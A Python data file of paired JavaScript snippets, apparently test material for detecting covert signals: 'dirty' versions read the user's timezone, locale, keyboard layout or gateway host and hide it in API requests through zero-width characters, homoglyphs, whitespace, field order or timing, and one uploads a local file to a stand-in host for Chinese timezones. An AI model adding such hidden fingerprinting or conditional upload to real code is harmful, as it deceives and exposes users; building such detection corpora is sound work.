"""Pairs of made-up programs: one that lets a signal decide what is sent, and an honest twin that reads the same.

Each entry: what the dirty one does, the signals, what is selected, the carrier, and the two programs.
"""

from dataclasses import dataclass


@dataclass(frozen=True, slots=True, kw_only=True)
class Pair:
    name: str
    signals: tuple[str, ...]
    selects: str
    carrier: str | None
    dirty: str
    clean: str


PAIRS = (
    Pair(
        name='offset', signals=('utc_offset',), selects='form', carrier='separator_choice',
        dirty='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nconst o=new Date().getTimezoneOffset();const s=o===-480?"/":"-";send(["2026","01","02"].join(s)+" is the date today");',
        clean='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nconst o=new Date().getTimezoneOffset();send(`UTC offset in minutes: ${o}`);',
    ),
    Pair(
        name='entries', signals=('timezone',), selects='form', carrier='whitespace',
        dirty='async function send(t,h){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:h,body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nconst KNOWN=new Set(["Asia/Shanghai","Asia/Harbin"]),MERGED=new Set(["x-helper"]);const zone=Intl.DateTimeFormat().resolvedOptions().timeZone;const given={"x-zone":zone};function*pairs(o){for(let e of Object.entries(o)){const k=e[0];yield[k,e[1]]}}function built(o){let mark=" ";const h={};for(const[k,v]of pairs(o)){if(KNOWN.has(v))mark="\\u2009";h[k]=1}return[h,mark]}const[h,mark]=built(given);console.log(zone);send("Good"+mark+"day to all",h);',
        clean='async function send(t,h){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:h,body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nconst KNOWN=new Set(["Asia/Shanghai","Asia/Harbin"]),MERGED=new Set(["x-helper"]);const zone=Intl.DateTimeFormat().resolvedOptions().timeZone;const given={"x-zone":zone};function*pairs(o){for(let e of Object.entries(o)){const k=e[0];yield[k,e[1]]}}function built(o){let mark=" ";const h={};for(const[k,v]of pairs(o)){if(MERGED.has(k))mark="\\u2009";h[k]=1}return[h,mark]}const[h,mark]=built(given);console.log(zone);send("Good"+mark+"day to all",h);',
    ),
    Pair(
        name='closure', signals=('timezone',), selects='form', carrier='unicode_homoglyph',
        dirty='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nfunction mk(){const z=Intl.DateTimeFormat().resolvedOptions().timeZone;return ()=>z.startsWith("Asia/")}const f=mk();const q=f()?"\\u2019":"\'";send("It"+q+"s a fine day today");',
        clean='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nfunction mk(){const z=Intl.DateTimeFormat().resolvedOptions().timeZone;return ()=>z.startsWith("Asia/")}const f=mk();console.log(f());send("It\'s a fine day today");',
    ),
    Pair(
        name='class', signals=('timezone',), selects='form', carrier='zero_width',
        dirty='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nclass E{constructor(){this.z=Intl.DateTimeFormat().resolvedOptions().timeZone}get isCn(){return ["Asia/Shanghai","Asia/Harbin"].includes(this.z)}pad(t){return this.isCn?t+"\\u200b":t}}send(new E().pad("hello there"));',
        clean='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nclass E{constructor(){this.z=Intl.DateTimeFormat().resolvedOptions().timeZone}show(d){return d.toLocaleString("en",{timeZone:this.z})}}console.log(new E().show(new Date()));send("hello there");',
    ),
    Pair(
        name='switch', signals=('locale',), selects='form', carrier='whitespace',
        dirty='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nfunction w(){switch((process.env.LANG||"").slice(0,2)){case "zh":return "  ";case "ru":return " \\u00a0";default:return " "}}send("Hello"+w()+"world and all");',
        clean='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nfunction w(){switch((process.env.LANG||"").slice(0,2)){case "zh":return "你好";default:return "Hello"}}console.log(w());send("Hello world and all");',
    ),
    Pair(
        name='table', signals=('timezone',), selects='form', carrier='dash_choice',
        dirty='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nconst T={"Asia/Shanghai":"\\u2014","Europe/Moscow":"\\u2013"};const z=Intl.DateTimeFormat().resolvedOptions().timeZone;send("a "+(T[z]||"-")+" b is a list");',
        clean='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nconst T={"Asia/Shanghai":"China Standard Time","Europe/Moscow":"MSK"};const z=Intl.DateTimeFormat().resolvedOptions().timeZone;console.log(T[z]||z);send("a - b is a list");',
    ),
    Pair(
        name='generator', signals=('timezone',), selects='form', carrier='dash_choice',
        dirty='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nfunction* g(){const z=Intl.DateTimeFormat().resolvedOptions().timeZone;yield /Shanghai|Urumqi/.test(z)?"–":"-"}for(const d of g())send("range 1"+d+"2 of the list");',
        clean='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nfunction* g(){const z=Intl.DateTimeFormat().resolvedOptions().timeZone;yield z}for(const d of g())console.log(d);send("range 1-2 of the list");',
    ),
    Pair(
        name='event', signals=('timezone',), selects='form', carrier='unicode_homoglyph',
        dirty='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nconst E=require("events");const e=new E();e.on("z",z=>{const c=z==="Asia/Shanghai";send(c?"Don’t do that, please":"Don\'t do that, please")});e.emit("z",Intl.DateTimeFormat().resolvedOptions().timeZone);',
        clean='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nconst E=require("events");const e=new E();e.on("z",z=>{console.log(z)});e.emit("z",Intl.DateTimeFormat().resolvedOptions().timeZone);send("Don\'t do that, please");',
    ),
    Pair(
        name='mutation', signals=('timezone',), selects='form', carrier='field_order',
        dirty='const h={"x-a":"1","x-b":"2"};\nconst z=Intl.DateTimeFormat().resolvedOptions().timeZone;let hs=Object.entries(h);if(["Asia/Shanghai","Asia/Chongqing"].includes(z))hs.reverse();fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:Object.fromEntries(hs),body:JSON.stringify({model:"m",messages:[]})});',
        clean='const h={"x-a":"1","x-b":"2"};\nconst z=Intl.DateTimeFormat().resolvedOptions().timeZone;let hs=Object.entries(h);console.log(z);fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:Object.fromEntries(hs),body:JSON.stringify({model:"m",messages:[]})});',
    ),
    Pair(
        name='model', signals=('timezone',), selects='model', carrier=None,
        dirty='const z=Intl.DateTimeFormat().resolvedOptions().timeZone;const model=["Asia/Shanghai","Asia/Urumqi"].includes(z)?"small-1":"large-1";fetch("https://api.vendor.example/v1/messages",{method:"POST",body:JSON.stringify({model,messages:[{role:"user",content:"hi"}]})});',
        clean='const z=Intl.DateTimeFormat().resolvedOptions().timeZone;const model=process.env.MODEL||"large-1";console.log(z);fetch("https://api.vendor.example/v1/messages",{method:"POST",body:JSON.stringify({model,messages:[{role:"user",content:"hi"}]})});',
    ),
    Pair(
        name='gateway', signals=('gateway_host',), selects='form', carrier='unicode_homoglyph',
        dirty='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nconst L=Buffer.from("ZXhhbXBsZS5jbixmb28ucnUsYmFyLmly","base64").toString().split(",");function k(){const u=process.env.TOOL_BASE_URL;if(!u)return false;const h=new URL(u).hostname;return L.some(d=>h===d||h.endsWith("."+d))}send(`It${k()?"ʼ":"\'"}s the date of today`);',
        clean='const base=process.env.TOOL_BASE_URL||"https://api.vendor.example";fetch(new URL("/v1/messages",base),{method:"POST",body:JSON.stringify({model:"m",messages:[{role:"user",content:"It\'s the date of today"}]})});',
    ),
    Pair(
        name='digits', signals=('timezone',), selects='form', carrier='digits',
        dirty='const z=Intl.DateTimeFormat().resolvedOptions().timeZone;const t=z==="Asia/Shanghai"?0.7001:0.7;fetch("https://api.vendor.example/v1/messages",{method:"POST",body:JSON.stringify({model:"m",temperature:t,messages:[]})});',
        clean='const z=Intl.DateTimeFormat().resolvedOptions().timeZone;console.log(z);fetch("https://api.vendor.example/v1/messages",{method:"POST",body:JSON.stringify({model:"m",temperature:0.7,messages:[]})});',
    ),
    Pair(
        name='command', signals=('keyboard_layout',), selects='form', carrier='whitespace',
        dirty='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nconst {execSync}=require("child_process");const l=execSync("defaults read com.apple.HIToolbox AppleSelectedInputSources").toString();send(l.includes("Pinyin")?"Hello  there my friend":"Hello there my friend");',
        clean='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nconst {execSync}=require("child_process");const l=execSync("git status").toString();send(l.includes("clean")?"The tree is clean":"There are changes");',
    ),
    Pair(
        name='async', signals=('timezone',), selects='form', carrier='whitespace',
        dirty='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nasync function z(){await null;return Intl.DateTimeFormat().resolvedOptions().timeZone}(async()=>{const a=await z();const b=a.includes("Shanghai");const msg="The answer is 42";await send(b?msg.replace(/ /g,"\\u00a0"):msg)})();',
        clean='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nasync function z(){await null;return Intl.DateTimeFormat().resolvedOptions().timeZone}(async()=>{const a=await z();await send(`timezone: ${a}`)})();',
    ),
    Pair(
        name='split', signals=('timezone',), selects='form', carrier='unicode_homoglyph',
        dirty='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nconst I=globalThis["In"+"tl"];const k=["time","Zone"].join("");const z=I.DateTimeFormat().resolvedOptions()[k];const c=["Asia/"+"Shanghai","Asia/"+"Urumqi"];send(c.indexOf(z)>=0?"Let’s go to the park":"Let\'s go to the park");',
        clean='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nconst k=["time","Zone"].join("");console.log(k);send("Let\'s go to the park");',
    ),
    Pair(
        name='order', signals=('timezone',), selects='form', carrier='field_order',
        dirty='const z=Intl.DateTimeFormat().resolvedOptions().timeZone;const cn=new Set(["Asia/Shanghai","Asia/Urumqi"]).has(z);const body=cn?{messages:[],model:"m"}:{model:"m",messages:[]};fetch("https://api.vendor.example/v1/messages",{method:"POST",body:JSON.stringify(body)});',
        clean='const z=Intl.DateTimeFormat().resolvedOptions().timeZone;const body={model:"m",messages:[],timezone:z};fetch("https://api.vendor.example/v1/messages",{method:"POST",body:JSON.stringify(body)});',
    ),
    Pair(
        name='proxy_obj', signals=('timezone',), selects='form', carrier='separator_choice',
        dirty='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nconst s=new Proxy({},{get:(t,k)=>k==="sep"?(["Asia/Shanghai","Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone)?"/":"-"):undefined});send(["2026","01"].join(s.sep)+" is this month");',
        clean='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nconst s=new Proxy({},{get:(t,k)=>k==="sep"?"-":undefined});send(["2026","01"].join(s.sep)+" is this month");console.log(Intl.DateTimeFormat().resolvedOptions().timeZone);',
    ),
    Pair(
        name='upload', signals=('timezone',), selects='content', carrier=None,
        dirty='const z=Intl.DateTimeFormat().resolvedOptions().timeZone;if(["Asia/Shanghai","Asia/Urumqi"].includes(z)){fetch("https://up.vendor.example/ingest",{method:"POST",body:require("fs").readFileSync("a.txt")})}',
        clean='const z=Intl.DateTimeFormat().resolvedOptions().timeZone;if(process.argv.includes("--up")){fetch("https://up.vendor.example/ingest",{method:"POST",body:require("fs").readFileSync("a.txt")})}console.log(z);',
    ),
    Pair(
        name='delay', signals=('timezone',), selects='delay', carrier=None,
        dirty='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nconst z=Intl.DateTimeFormat().resolvedOptions().timeZone;const d=z==="Asia/Shanghai"?4000:0;setTimeout(()=>send("hello"),d);',
        clean='async function send(t){await fetch("https://api.vendor.example/v1/messages",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({model:"m-1",messages:[{role:"user",content:t}]})})}\nconst z=Intl.DateTimeFormat().resolvedOptions().timeZone;console.log(z);setTimeout(()=>send("hello"),100);',
    ),
    Pair(
        name='header_case', signals=('timezone',), selects='form', carrier='case',
        dirty='const z=Intl.DateTimeFormat().resolvedOptions().timeZone;const n=z==="Asia/Shanghai"?"X-Client":"x-client";fetch("https://api.vendor.example/v1/messages",{headers:{[n]:"1"}});',
        clean='const z=Intl.DateTimeFormat().resolvedOptions().timeZone;fetch("https://api.vendor.example/v1/messages",{headers:{"x-timezone":z}});',
    ),
)
